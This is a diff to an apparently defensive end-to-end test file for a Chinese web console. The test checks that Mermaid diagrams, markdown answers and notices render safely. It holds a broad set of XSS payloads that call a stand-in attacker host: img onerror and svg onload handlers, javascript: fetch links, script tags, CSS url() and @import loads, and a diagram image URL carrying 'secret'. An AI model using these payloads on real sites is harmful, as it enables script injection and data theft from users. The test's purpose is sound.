@@ -28,19 +28,39 @@ const answersOf = (evil: string): Record<string, string> => ({
   formulas: `$\\includegraphics{${evil}/formula}$ $\\href{javascript:fetch('${evil}')}{x}$ $\\htmlStyle{background:url(${evil}/formula-style)}{y}$ $$\\url{${evil}/formula-url}$$`,
   table: `| <img src=${evil}/cell onerror=alert(1)> | ![t](${evil}/cell-picture) |\n|---|---|\n| 1 | 2 |`,
   'img node': fence(`flowchart LR\n  A@{ img: "${evil}/x?d=secret", label: "words", w: 60, h: 60 }\n  A --> B`),
-  'icon node': fence(`flowchart LR\n  A@{ icon: "x:y", label: "${evil}" } --> B["<a href='${evil}/a' onclick='alert(1)'>l</a>"]`),
-  themeCSS: fence(`%%{init: {"themeCSS": ".node rect{background:url(${evil}/a)} .label{background-image:url(${evil}/b)}"}}%%\ngraph TD; C-->D`),
-  'front matter': fence(`---\nconfig:\n  themeCSS: "* {background-image:url(${evil}/f)}"\n  fontFamily: "x; background:url(${evil}/font)"\n---\ngraph TD; E-->F`),
-  'html labels': fence(`%%{init: {"htmlLabels": true, "flowchart": {"htmlLabels": true}, "securityLevel": "loose"}}%%\ngraph TD; G["<img src=${evil}/l onerror=fetch('${evil}/onerror')>"] --> H["<svg onload=alert(1)><image href=${evil}/i /></svg>"]`),
+  'icon node': fence(
+    `flowchart LR\n  A@{ icon: "x:y", label: "${evil}" } --> B["<a href='${evil}/a' onclick='alert(1)'>l</a>"]`,
+  ),
+  themeCSS: fence(
+    `%%{init: {"themeCSS": ".node rect{background:url(${evil}/a)} .label{background-image:url(${evil}/b)}"}}%%\ngraph TD; C-->D`,
+  ),
+  'front matter': fence(
+    `---\nconfig:\n  themeCSS: "* {background-image:url(${evil}/f)}"\n  fontFamily: "x; background:url(${evil}/font)"\n---\ngraph TD; E-->F`,
+  ),
+  'html labels': fence(
+    `%%{init: {"htmlLabels": true, "flowchart": {"htmlLabels": true}, "securityLevel": "loose"}}%%\ngraph TD; G["<img src=${evil}/l onerror=fetch('${evil}/onerror')>"] --> H["<svg onload=alert(1)><image href=${evil}/i /></svg>"]`,
+  ),
   'class style': fence(`classDiagram\n  class I\n  style I fill:url(${evil}/c)`),
-  'flow style': fence(`graph TD; J-->K\n  style J fill:url(${evil}/s),background:url(${evil}/s2)\n  classDef q fill:url(${evil}/d)\n  class K q`),
-  'sequence links': fence(`sequenceDiagram\n  participant L\n  participant M\n  link L: x @ javascript:fetch('${evil}/seq')\n  links M: {"a": "${evil}/seq-a"}\n  L->>M: <img src=${evil}/msg onerror=alert(1)>`),
+  'flow style': fence(
+    `graph TD; J-->K\n  style J fill:url(${evil}/s),background:url(${evil}/s2)\n  classDef q fill:url(${evil}/d)\n  class K q`,
+  ),
+  'sequence links': fence(
+    `sequenceDiagram\n  participant L\n  participant M\n  link L: x @ javascript:fetch('${evil}/seq')\n  links M: {"a": "${evil}/seq-a"}\n  L->>M: <img src=${evil}/msg onerror=alert(1)>`,
+  ),
   click: fence(`graph TD; N-->O\n  click N href "javascript:fetch('${evil}/click')"\n  click O call alert(1)`),
   'other kinds': [
-    'pie title <img src=EVIL/pie onerror=alert(1)>\n  "a" : 1\n  "b" : 2', 'gantt\n  title <img src=EVIL/gantt onerror=alert(1)>\n  section s\n  a : 2026-01-01, 2d', 'mindmap\n  root((<img src=EVIL/mind onerror=alert(1)>))\n    b',
-    'stateDiagram-v2\n  [*] --> P : <img src=EVIL/state onerror=alert(1)>', 'erDiagram\n  Q ||--o{ R : "<img src=EVIL/er onerror=alert(1)>"', 'journey\n  title <img src=EVIL/journey onerror=alert(1)>\n  section s\n    t: 5: me',
-    'timeline\n  title <img src=EVIL/time onerror=alert(1)>\n  2026 : a', 'block-beta\n  a["<img src=EVIL/block onerror=alert(1)>"]', 'quadrantChart\n  title <img src=EVIL/quad onerror=alert(1)>\n  A: [0.3, 0.6]',
-  ].map((code) => fence(code.replaceAll('EVIL', evil))).join('\n\n'),
+    'pie title <img src=EVIL/pie onerror=alert(1)>\n  "a" : 1\n  "b" : 2',
+    'gantt\n  title <img src=EVIL/gantt onerror=alert(1)>\n  section s\n  a : 2026-01-01, 2d',
+    'mindmap\n  root((<img src=EVIL/mind onerror=alert(1)>))\n    b',
+    'stateDiagram-v2\n  [*] --> P : <img src=EVIL/state onerror=alert(1)>',
+    'erDiagram\n  Q ||--o{ R : "<img src=EVIL/er onerror=alert(1)>"',
+    'journey\n  title <img src=EVIL/journey onerror=alert(1)>\n  section s\n    t: 5: me',
+    'timeline\n  title <img src=EVIL/time onerror=alert(1)>\n  2026 : a',
+    'block-beta\n  a["<img src=EVIL/block onerror=alert(1)>"]',
+    'quadrantChart\n  title <img src=EVIL/quad onerror=alert(1)>\n  A: [0.3, 0.6]',
+  ]
+    .map((code) => fence(code.replaceAll('EVIL', evil)))
+    .join('\n\n'),
 })
 
 function fence(code: string): string {
@@ -67,7 +87,11 @@ async function answerWith(page: Page, content: string): Promise<void> {
 
 /** Each diagram is either a picture or told to be none. */
 async function allDiagramsAreSettled(page: Page, count: number): Promise<void> {
-  await page.waitForFunction((wanted) => document.querySelectorAll('.md-diagram img, .md-code-note').length >= wanted, count, { timeout: 60_000 })
+  await page.waitForFunction(
+    (wanted) => document.querySelectorAll('.md-diagram img, .md-code-note').length >= wanted,
+    count,
+    { timeout: 60_000 },
+  )
 }
 
 const markdown: Journey = {
@@ -89,7 +113,10 @@ const markdown: Journey = {
       await page.getByRole('log').getByText('1 2 3').waitFor()
       await page.waitForURL(/dia=\d+/)
 
-      for (const [kind, content] of Object.entries({ plain: fence('graph LR; A[开始] --> B{可以吗}; B -->|是| C[完成]; B -->|否| A'), ...answersOf(evil) })) {
+      for (const [kind, content] of Object.entries({
+        plain: fence('graph LR; A[开始] --> B{可以吗}; B -->|是| C[完成]; B -->|否| A'),
+        ...answersOf(evil),
+      })) {
         // One after the other: each is a page of its own.
         /* oxlint-disable no-await-in-loop */
         await answerWith(page, content)
@@ -124,13 +151,21 @@ const notices: Journey = {
     try {
       await enterConsole(page, product)
       const hostile = `<p>正文<img src="${evil}/notice" onerror="fetch('${evil}/handler')"><a href="javascript:fetch('${evil}/js')" onclick="alert(1)">链接</a></p><script>fetch('${evil}/script')</script><style>@import url(${evil}/style)</style><svg onload="alert(1)"></svg>`
-      await callAs(page, product, 'POST', '/blade-desk/notice/submit', { title: '有害的通知', category: 1, content: hostile, releaseTime: '2026-11-20 09:00:00' })
+      await callAs(page, product, 'POST', '/blade-desk/notice/submit', {
+        title: '有害的通知',
+        category: 1,
+        content: hostile,
+        releaseTime: '2026-11-20 09:00:00',
+      })
       // From before contents were cleaned when saved, and before avatars had to be files of ours.
       await product.query(`update desk_notice set content = $1 where title = '有害的通知'`, [hostile])
       await product.query(`update user_account set avatar = $1 where account = 'admin'`, [`${evil}/avatar.png`])
 
       await page.reload()
-      await page.getByRole('region', { name: '通知公告' }).getByRole('button', { name: /有害的通知/ }).click()
+      await page
+        .getByRole('region', { name: '通知公告' })
+        .getByRole('button', { name: /有害的通知/ })
+        .click()
       await page.getByRole('dialog').getByText('正文').waitFor()
       await context.picture(page, 'safe-notice')
       await page.goto(`${product.url}/system/user`)
@@ -143,7 +178,12 @@ const notices: Journey = {
       await page.getByRole('dialog').getByRole('textbox', { name: '通知内容' }).getByText('正文').waitFor()
       await context.picture(page, 'safe-notice-editor')
 
-      const forms = [['zh', { width: 1440, height: 900 }, {}], ['dark', { colorScheme: 'dark' }, {}], ['en', { language: 'en-US' }, { language: 'en' }], ['phone', { width: 390, height: 844 }, {}]] as const
+      const forms = [
+        ['zh', { width: 1440, height: 900 }, {}],
+        ['dark', { colorScheme: 'dark' }, {}],
+        ['en', { language: 'en-US' }, { language: 'en' }],
+        ['phone', { width: 390, height: 844 }, {}],
+      ] as const
       for (const [form, options, entrance] of forms) {
         // One after the other: one reader at a time.
         /* oxlint-disable no-await-in-loop */
@@ -151,12 +191,18 @@ const notices: Journey = {
         await enterConsole(reader.page, product, entrance)
         await reader.page.getByRole('button', { name: /^(通知|Notices)(，|,|$)/ }).click()
         await context.picture(reader.page, `notice-bell-${form}`)
-        await reader.page.getByRole('tooltip').getByRole('button', { name: /有害的通知/ }).click()
+        await reader.page
+          .getByRole('tooltip')
+          .getByRole('button', { name: /有害的通知/ })
+          .click()
         await reader.page.getByRole('dialog').getByText('正文').waitFor()
         await context.picture(reader.page, `notice-panel-${form}`)
         await reader.page.keyboard.press('Escape')
         await reader.page.goto(`${product.url}/desk/notice`)
-        await reader.page.getByRole('button', { name: /^(新增|Add|New)$/ }).first().click()
+        await reader.page
+          .getByRole('button', { name: /^(新增|Add|New)$/ })
+          .first()
+          .click()
         await reader.page.getByRole('dialog').getByRole('toolbar').waitFor()
         await context.picture(reader.page, `notice-editor-${form}`)
         await reader.page.context().close()
